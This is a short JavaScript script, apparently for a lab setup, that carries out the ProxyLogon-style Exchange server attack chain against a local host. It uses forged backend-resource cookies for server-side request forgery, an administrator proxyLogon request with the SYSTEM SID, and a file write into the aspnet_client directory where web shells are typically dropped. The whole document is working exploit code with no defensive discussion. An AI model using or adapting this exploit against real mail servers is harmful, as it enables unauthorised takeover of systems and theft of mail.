// ESM port with every magic value lifted into a named constant
const PORT = Number(process.argv[2] ?? 8080);
const BASE = `http://127.0.0.1:${PORT}`;
const CHROME = '88.0.4324.190';
const UA = `Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${CHROME} Safari/537.36`;
const NOTE_ID = 91453;
const BACKEND_TICKET = 1843073522;
const REQUEST_ID = '20200302-7720';
const PAD_LEN = 37;
const NOTE = `/aspnet_client/system_web/readme_${NOTE_ID}.txt`;

const browser = { 'User-Agent': UA, 'x-requested-with': 'XMLHttpRequest', Accept: '*/*', 'accept-language': 'en-US,en;q=0.9', connection: 'close' };

const cookie = [
  'X-AnonResource=true',
  'X-AnonResource-Backend=lab.invalid',
  `X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~${BACKEND_TICKET}`,
].join('; ');
const qs = new URLSearchParams({ Pad: 'A'.repeat(PAD_LEN), Protocol: 'Autodiscoverv1', Email: 'administrator@lab.invalid/mapi/nspi', RequestId: REQUEST_ID });

const r1 = await fetch(`${BASE}/autodiscover/autodiscover.json?${qs}`, { headers: { ...browser, cookie } });
const r2 = await fetch(`${BASE}/ecp/proxyLogon.ecp`, {
  method: 'POST',
  headers: { 'user-agent': UA, msexchlogonmailbox: 'S-1-5-20', 'content-type': 'application/json', 'X-BEResource': 'localhost@lab.invalid/ecp/proxyLogon.ecp' },
  body: '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}',
});
const who = (await r2.text()).trim() || 'anonymous';
await fetch(BASE + NOTE, { method: 'POST', headers: { 'user-agent': UA, 'X-Note-Path': NOTE, 'Content-Type': 'text/plain' }, body: [1, 2, 3].map((i) => `note ${i} of 3 for ${who}`).join('\n') });
const r4 = await fetch(BASE + NOTE, { headers: browser });
console.log(r1.status, (await r4.text()).length);
